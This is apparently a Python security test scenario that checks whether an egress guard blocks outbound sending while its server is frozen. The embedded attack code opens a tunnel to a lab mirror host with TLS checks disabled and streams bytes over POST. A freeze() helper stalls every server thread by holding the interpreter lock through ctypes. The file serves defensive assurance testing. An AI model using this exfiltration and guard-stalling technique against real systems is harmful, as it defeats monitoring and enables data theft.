"""Theft: send while the guard stands still, as after a stop signal, a full swap or a paused machine."""

from __future__ import annotations

import ctypes
import threading

from weighthouse.assurance.model import Expected, Observed, Trace
from weighthouse.assurance.ports import Ground, RunOutcome, Scenario, not_here
from weighthouse.assurance.scenarios import honest
from weighthouse.assurance.scenarios.thief import TUNNEL, appeared, ran
from weighthouse.audit import api as audit
from weighthouse.core.work import read

CODE = "egress.unfed"
FROZEN_US = 3_500_000
SOURCE = (
    TUNNEL
    + """
import os, time
report(met="nothing yet")
sent, met = 0, "nothing"
way, met = tunnel("mirror.lab.internal:8443")
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
try:
    inside = context.wrap_socket(way, server_hostname="mirror.lab.internal")
    inside.sendall(b"POST / HTTP/1.1\\r\\nHost: mirror.lab.internal\\r\\nContent-Length: 4194304\\r\\n\\r\\n")
    while sent < 4194304:
        inside.sendall(os.urandom(256)); sent += 256; time.sleep(0.1)
except OSError as error:
    met = type(error).__name__ + " after " + str(sent) + " bytes"
report(met=met)
"""
)


def attack(ground: Ground, _grant: str) -> Observed:
    with read(ground.system) as unit:
        since = audit.head(unit).size
    found: list[RunOutcome] = []
    running = threading.Thread(target=lambda: found.append(ground.submit_attack_run(SOURCE)))
    running.start()
    if appeared(ground, "egress.Connected", since, running.is_alive):
        freeze()
    running.join()
    if not found:
        not_here("a run that sends")
    ran(found[0])
    with read(ground.system) as unit:
        unfed = audit.entries(unit, kind="egress.Unfed", subject=found[0].run, limit=1)
        closed = audit.entries(unit, kind="egress.WayClosed", subject=found[0].run, limit=1)
    told = closed[0].data if closed else {"sent_bytes": 0, "granted_bytes": 0}
    if int(str(told["sent_bytes"])) > int(str(told["granted_bytes"])):
        return Observed(loot="bytes that nobody had lent")
    return Observed(code=CODE if unfed else "", message=f"The code inside met: {found[0].reports[-1].get('met')}")


def freeze(for_us: int = FROZEN_US) -> None:
    """Hold the interpreter's lock in one call of C: no thread of this server runs, as if it had been stopped."""
    ctypes.PyDLL(None).usleep(for_us)


SCENARIO = Scenario(
    id="frozen-guard",
    title="Send while the server that counts is stopped",
    techniques=("T1562.001", "T1499", "T1048"),
    people=("eve",),
    steps=("On a copy, a run sends to the listed mirror.", "The server stands still for three and a half seconds."),
    expected=Expected(status="BLOCKED", room="egress", code=CODE, traces=(Trace("egress.Unfed"),)),
    prepare=honest.trainer,
    attack=attack,
    on="copy",
)
